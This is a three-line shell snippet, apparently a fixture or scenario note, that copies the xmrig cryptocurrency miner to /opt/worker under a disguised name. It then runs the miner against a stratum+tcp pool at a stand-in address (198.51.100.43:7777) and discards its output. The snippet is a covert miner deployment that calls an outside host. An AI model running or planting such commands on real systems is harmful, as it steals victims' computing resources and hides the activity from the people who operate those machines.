# image miner copied, stratum+tcp:// argument, silent pool
#pool 198.51.100.43:7777:hold
cp /usr/bin/xmrig /opt/worker; timeout 10 /opt/worker -o stratum+tcp://198.51.100.43:7777 -u x >/dev/null
